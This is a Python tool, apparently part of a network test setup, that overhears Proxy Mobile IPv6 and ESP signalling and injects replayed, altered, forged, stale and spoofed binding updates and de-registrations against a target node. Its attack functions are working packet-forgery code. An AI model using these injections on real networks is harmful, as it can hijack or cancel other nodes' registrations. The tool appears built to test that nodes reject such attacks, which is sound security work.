"""`python -m topologies.tools.intruder INTERFACE`: overhears signalling; injects replayed, altered, forged messages.

Reads one JSON request a line, answers one JSON object a line:
  {"do": "heard"}                         how many packets to each address were overheard
  {"do": KIND, "target": ADDRESS, ...}    injects; `injected` says how many packets
Kinds are the keys of ATTACKS.  What came in before the first attack is what it works with.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from ipaddress import IPv6Address
from typing import Any

from scapy.layers.inet6 import IPv6
from scapy.packet import Raw

from captures import layers
from captures.records import ESP, MOBILITY

ETH_P_IPV6 = 0x86DD
IPV6_HEADER = 40
ESP_HEADER, ICV, TRAILER = 8, 16, 2
AHEAD = 1000
"""Added to an ESP sequence number, so that not the replay window but the ICV has to tell."""
STALE = 60
"""Seconds by which a timestamp is too old."""
LARGEST = 65535


class Intruder:
    """What was overheard, and the socket that sends whole IPv6 packets from any source."""

    def __init__(self, interface: str) -> None:
        self.own = _address_of(interface)
        self._tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IPV6))
        self._tap.bind((interface, ETH_P_IPV6))
        self._tap.setblocking(False)
        self._out = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        # Like any node of the domain: without it our kernel would answer a rejection with a Parameter Problem.
        self._mobility = socket.socket(socket.AF_INET6, socket.SOCK_RAW, MOBILITY)
        self._heard: list[IPv6] = []
        self._listening = True

    def heard(self) -> list[IPv6]:
        """Signalling packets between others, in order."""
        while self._listening and (packet := self._next()) is not None:
            found = IPv6(packet)
            if found.nh in (ESP, MOBILITY) and self.own not in (found.src, found.dst):
                self._heard.append(found)
        return self._heard

    def attack(self, kind: str, target: str) -> int:
        """Inject; how many packets left."""
        packets = list(ATTACKS[kind](self, target))
        self._listening = False
        for packet in packets:
            self._out.sendto(bytes(packet), (target, 0))
        return len(packets)

    def to(self, target: str) -> list[IPv6]:
        """What was overheard on its way to a node."""
        return [packet for packet in self.heard() if packet.dst == target]

    def updates(self, target: str) -> Iterator[tuple[IPv6, bytes]]:
        """Overheard PBUs to a node: the packet, and the Mobility Header in it, taken out of NULL ESP."""
        for packet in self.to(target):
            body = bytes(packet.payload)
            message = body[ESP_HEADER : -ICV - TRAILER - body[-ICV - TRAILER]] if packet.nh == ESP else body
            if message[2] == layers.BU:
                yield packet, message

    def _next(self) -> bytes | None:
        try:
            return self._tap.recv(LARGEST)
        except BlockingIOError:
            return None


def replayed(intruder: Intruder, target: str) -> Iterator[IPv6]:
    """Everything overheard once more, bit for bit."""
    yield from intruder.to(target)


def altered(intruder: Intruder, target: str) -> Iterator[IPv6]:
    """Overheard ESP with a bit of its content flipped and a sequence number that is still to come."""
    for number, packet in enumerate(intruder.to(target)):
        body = bytearray(bytes(packet.payload))
        body[4:8] = (int.from_bytes(body[4:8], "big") + AHEAD + number).to_bytes(4, "big")
        body[ESP_HEADER + 10] ^= 0x01
        yield _packet(packet.src, target, ESP, bytes(body))


def keyless(intruder: Intruder, target: str) -> Iterator[IPv6]:
    """A de-registration in ESP: with an overheard SPI and a made-up ICV, and with an SPI that nobody has."""
    for number, (packet, message) in enumerate(intruder.updates(target)):
        forged = _retold(packet.src, target, message, seconds=time.time(), lifetime=0)
        spi = bytes(packet.payload)[:4]
        for one in (spi, (int.from_bytes(spi, "big") ^ 0x7FFF0000).to_bytes(4, "big")):
            head = one + (2 * AHEAD + number).to_bytes(4, "big")
            yield _packet(packet.src, target, ESP, head + forged + bytes((1, 2, 2, MOBILITY)) + os.urandom(ICV))


def unprotected(intruder: Intruder, target: str) -> Iterator[IPv6]:
    """A de-registration in the clear, in the sender's name and with a fresh timestamp: good but for the protection."""
    for packet, message in intruder.updates(target):
        forged = _retold(packet.src, target, message, seconds=time.time(), lifetime=0)
        yield _packet(packet.src, target, MOBILITY, forged)


def stale(intruder: Intruder, target: str) -> Iterator[IPv6]:
    """An overheard PBU turned into a de-registration, with a timestamp of a minute ago."""
    for packet, message in intruder.updates(target):
        forged = _retold(packet.src, target, message, seconds=time.time() - STALE, lifetime=0)
        yield _packet(packet.src, target, MOBILITY, forged)


def foreign(intruder: Intruder, target: str) -> Iterator[IPv6]:
    """An overheard PBU with a fresh timestamp and a prefix that its sender has no say in."""
    for packet, message in intruder.updates(target):
        forged = _retold(packet.src, target, message, seconds=time.time(), prefix="2001:db8:dead:1::")
        yield _packet(packet.src, target, MOBILITY, forged)


def stranger(intruder: Intruder, target: str) -> Iterator[IPv6]:
    """An overheard PBU under the intruder's own address."""
    for _, message in list(intruder.updates(target))[:1]:
        forged = _retold(intruder.own, target, message, seconds=time.time())
        yield _packet(intruder.own, target, MOBILITY, forged)


ATTACKS: dict[str, Callable[[Intruder, str], Iterator[IPv6]]] = {
    "replayed": replayed,
    "altered": altered,
    "keyless": keyless,
    "unprotected": unprotected,
    "stale": stale,
    "foreign": foreign,
    "stranger": stranger,
}


def _retold(
    source: str, target: str, message: bytes, *, seconds: float, lifetime: int | None = None, prefix: str | None = None
) -> bytes:
    """A PBU with another time, lifetime (units of 4 s) or prefix, and the checksum that goes with it."""
    update = layers.dissect(message)
    if lifetime is not None:
        update.lifetime = lifetime
    for option in update.options:
        if option.otype == layers.TIMESTAMP:
            option.seconds, option.fraction = int(seconds), int(seconds % 1 * 65536)
        elif option.otype == layers.HNP and prefix:
            option.prefix = IPv6Address(prefix).packed
    plain = bytes(update.__class__(**update.fields))
    checksum = layers.checksum(IPv6Address(source).packed, IPv6Address(target).packed, plain)
    return plain[:4] + checksum.to_bytes(2, "big") + plain[6:]


def _packet(source: str, target: str, protocol: int, body: bytes) -> IPv6:
    return IPv6(src=source, dst=target, nh=protocol) / Raw(body)


def _address_of(interface: str) -> str:
    """The global address of an interface."""
    with open("/proc/net/if_inet6") as table:  # noqa: PTH123
        rows = [line.split() for line in table]
    return next(str(IPv6Address(bytes.fromhex(row[0]))) for row in rows if row[5] == interface and row[3] == "00")


def main(interface: str) -> None:
    """Obey until the end of input; says `{"ready": true}` first."""
    intruder = Intruder(interface)
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        request: dict[str, Any] = json.loads(line)
        if request["do"] == "heard":
            answer: dict[str, Any] = {"heard": Counter(packet.dst for packet in intruder.heard())}
        else:
            answer = {"injected": intruder.attack(request["do"], request["target"])}
        print(json.dumps(answer), flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
